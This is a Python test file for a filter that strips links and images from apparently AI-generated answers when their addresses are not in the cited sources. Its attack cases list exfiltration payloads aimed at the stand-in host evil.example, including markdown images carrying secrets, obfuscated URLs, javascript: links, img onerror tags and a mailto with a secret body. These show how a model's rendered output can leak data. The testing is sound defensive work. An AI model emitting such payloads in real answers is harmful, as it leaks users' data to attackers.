"""No link or image of an answer leads where its sources do not."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.answer.links import REMOVED, LinkFilter, addresses, without_foreign_links

GOOD = "https://docs.example/berths?id=3"
ALLOWED = addresses(
    [f"See [the list]({GOOD}), <https://auto.example/> or www.plain.example (mail: mailto:a@b.example)."]
)


@pytest.mark.parametrize(
    "kept",
    [
        f"See [the list]({GOOD}) [1].",
        f'See [the list]({GOOD} "with a title") [1].',
        f"![plan]({GOOD})",
        f"It stands at {GOOD}.",
        f"({GOOD})",
        "<https://auto.example/> and www.plain.example, or mailto:a@b.example",
        "A berth costs 34 euros [1, 2]. The ratio is 3:1; the file is at /etc/app.env.",
        "Use `list[int]` or List<int>, a<b && c>d, x[1](), and `argv[1]`.",
        "1. first\n2. second [2]\n\n> [1]: The first passage says so.",
        "The data: 34 euros. Note: //comment and // comment.",
        "und/oder 1//2 [1] (siehe oben) ünïcödé 中文。",
        "",
    ],
)
def test_what_stands_in_the_sources_or_leads_nowhere_is_kept(kept: str) -> None:
    assert without_foreign_links(kept, ALLOWED) == kept


EVIL = "https://evil.example/?q=secret"


@pytest.mark.parametrize(
    ("attack", "left"),
    [
        (f"![x]({EVIL})", "![x]"),
        (f"[Click here]({EVIL}) now [1].", "[Click here] now [1]."),
        (f"[1]({EVIL})", "[1]"),
        (f"[![x]({EVIL})]({EVIL})", "[![x]]"),
        (f"![x](<{EVIL}>)", "![x]"),
        (f'![x]( {EVIL} "a title (with)")', "![x]"),
        (f"![x](\n{EVIL}\n)", "![x]"),
        ("![x](https:&#47;&#47;evil.example/?q=1)", "![x]"),
        (r"![x](https:\/\/evil.example/?q=1)", "![x]"),
        ("![x](//evil.example/?q=1)", "![x]"),
        ("![x](/redirect?to=evil)", "![x]"),
        ("[x](javascript:alert(1))", "[x]"),
        ("![x](data:image/png;base64,AAAA)", "![x]"),
        (f"![x]({GOOD}&q=secret)", "![x]"),
        (f"![x]({GOOD}#secret)", "![x]"),
        (f"![a\nb]({EVIL})", "![a\nb]"),
        (f"[x][e]\n\n[e]: {EVIL}", f"[x][e]\n\n[e]: {REMOVED}"),
        ("[x][e]\n\n[e]: https:&#47;&#47;evil.example", f"[x][e]\n\n[e]: {REMOVED}"),
        (f"> [e]:\n{EVIL} 'title'", f"> [e]: {REMOVED} 'title'"),
        (f"See <{EVIL}>.", f"See {REMOVED}."),
        (f"See {EVIL}.", f"See {REMOVED}."),
        (f"See _{EVIL}_ and ({EVIL}).", f"See _{REMOVED}_ and ({REMOVED})."),
        ("HTTPS://EVIL.EXAMPLE/x and www.evil.example/x", f"{REMOVED} and {REMOVED}"),
        ("mailto:thief@evil.example?body=secret", REMOVED),
        (f'<img src="{EVIL}">', " "),
        (f"<IMG\nSRC={EVIL} onerror=alert(1)>", " "),
        (f'<a href="{EVIL}">x</a>', " x</a>"),
        ('<div style="background:url(//evil.example/x)">x</div>', " x</div>"),
        ("htt<img src=x>ps://evil.example/x", f"htt {REMOVED}"),
        ("![x]<img src=x>(https:&#47;&#47;evil.example)", "![x] (https:&#47;&#47;evil.example)"),
        ("![x](x)(https:&#47;&#47;evil.example)", "![x] (https:&#47;&#47;evil.example)"),
        (f'<img src="{EVIL}', f'<img src="{REMOVED}'),
        (f"{GOOD}<{EVIL}>", f"{GOOD}{REMOVED}"),
    ],
)
def test_known_ways_out_are_closed(attack: str, left: str) -> None:
    assert without_foreign_links(attack, ALLOWED) == left
    assert without_foreign_links(left, ALLOWED) == left


PIECES = st.sampled_from(
    [
        *"[]()<>!:/ \n\"'.\\",
        "](",
        "](<",
        "]:",
        "//",
        "www.",
        "http",
        "https://",
        "evil.example",
        "x",
        "src=",
        "img ",
        GOOD,
    ]
)


@given(st.lists(st.lists(PIECES, max_size=6).map("".join), max_size=8))
def test_a_stream_is_as_clean_as_the_whole_however_it_is_cut(pieces: list[str]) -> None:
    reader = LinkFilter(ALLOWED)
    streamed = "".join(reader.feed(piece) for piece in pieces) + reader.finish()
    assert streamed == without_foreign_links("".join(pieces), ALLOWED)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_nothing_that_is_left_leads_elsewhere(text: str) -> None:
    clean = without_foreign_links(text, ALLOWED)
    assert addresses([clean]) <= ALLOWED
    assert without_foreign_links(clean, ALLOWED) == clean


def test_plain_words_are_not_held_back() -> None:
    reader = LinkFilter(ALLOWED)
    assert reader.feed("A berth costs ") == "A berth costs "
    assert reader.feed("34 euros [1].") == "34 euros [1]."
    assert reader.feed(" See ![pl") == " See !["
    assert reader.feed("an](https://ev") == "plan"
    assert reader.feed("il.example/x) for more ") == "] for more "


def test_what_never_ends_is_let_go_and_stays_harmless() -> None:
    reader = LinkFilter(ALLOWED)
    endless = reader.feed("![x](" + "a" * 10_000)
    assert endless.startswith("![x] (aaa")


@pytest.mark.parametrize(
    "piece", ["](", "[](x", "<a ", "<img src=", "https://", "www.", "]: ", "![a](b) ", "A berth [1]. "]
)
def test_a_model_that_never_stops_takes_no_time(piece: str) -> None:
    def seconds(length: int) -> float:
        text = piece * (length // len(piece))
        start = time.process_time()
        without_foreign_links(text, ALLOWED)
        return time.process_time() - start

    short = min(seconds(4_000) for _ in range(3))
    assert min(seconds(16_000) for _ in range(3)) < 8 * max(short, 0.005)
